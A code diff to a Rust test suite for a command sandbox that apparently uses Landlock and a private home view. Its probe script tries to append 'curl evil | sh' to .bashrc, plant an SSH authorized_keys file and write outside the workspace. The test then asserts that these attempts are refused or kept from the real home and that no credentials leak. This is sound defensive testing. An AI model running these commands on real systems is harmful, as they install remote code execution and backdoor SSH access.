@@ -84,6 +84,9 @@ const PROBE: &str = "cat allowed.txt && echo read-workspace
     cat \"$HOME/.config/git/ignore\" && echo read-git-ignore
     cat \"$HOME/.bashrc\" >/dev/null && echo read-bashrc
     echo 'curl evil | sh' >> \"$HOME/.bashrc\" || echo refused-bashrc
+    mkdir \"$HOME/.newtool\" && echo made > \"$HOME/.newtool/f\" && echo created-in-home
+    mkdir -p \"$HOME/.config/newapp\" && echo created-in-split-dir
+    mkdir -p \"$HOME/.ssh\" && echo key > \"$HOME/.ssh/authorized_keys\" && echo planted-in-view
     echo x > \"$OUTSIDE/escaped\" || echo refused-outside
     echo x > /dev/null && head -c 1 /dev/urandom >/dev/null && echo devices
     test -r /proc/self/status && echo proc-self";
@@ -125,6 +128,9 @@ fn by_default_the_rules_are_enforced_and_the_home_stays_usable() {
         "read-git-ignore",
         "read-bashrc",
         "refused-bashrc",
+        "created-in-home",
+        "created-in-split-dir",
+        "planted-in-view",
         "refused-outside",
         "devices",
         "proc-self",
@@ -134,9 +140,21 @@ fn by_default_the_rules_are_enforced_and_the_home_stays_usable() {
     for secret in ["PRIVATE KEY", "AWS SECRET", "GCLOUD SECRET"] {
         assert!(!r.stdout.contains(secret), "{secret} leaked: {r:#?}");
     }
-    // Each refusal is Landlock's EACCES, not a missing file.
-    assert_eq!(r.stderr.matches("Permission denied").count(), 5, "{}", r.stderr);
+    // The home the command sees holds only what the rules grant (credentials are not there at
+    // all, start-up files are read-only); outside it, Landlock refuses.
+    assert_eq!(r.stderr.matches("No such file or directory").count(), 3, "{}", r.stderr);
+    assert_eq!(r.stderr.matches("Read-only file system").count(), 1, "{}", r.stderr);
+    assert_eq!(r.stderr.matches("Permission denied").count(), 1, "{}", r.stderr);
     assert_eq!(std::fs::read_to_string(home.path().join(".bashrc")).unwrap(), "# host shell\n");
+    // What was created in the home is the session's, never the real home's...
+    for made in [".newtool", ".config/newapp", ".ssh/authorized_keys"] {
+        assert!(!home.path().join(made).exists(), "{made} reached the real home");
+    }
+    assert_eq!(std::fs::read_to_string(home.path().join(".ssh/id_rsa")).unwrap(), "PRIVATE KEY\n");
+    // ...and lasts for the session's later commands.
+    let again = exec_with_home(&d, &s, &home, "cat \"$HOME/.newtool/f\"; cat \"$HOME/.ssh/id_rsa\" || true");
+    again.assert_exit(0);
+    assert_eq!(again.stdout, "made\n", "{again:#?}");
     assert!(!outside.path().join("escaped").exists());
     assert!(home.path().join(".cargo/built").exists());
     assert_eq!(std::fs::read_to_string(s.workspace.path().join("written.txt")).unwrap(), "ok\n");
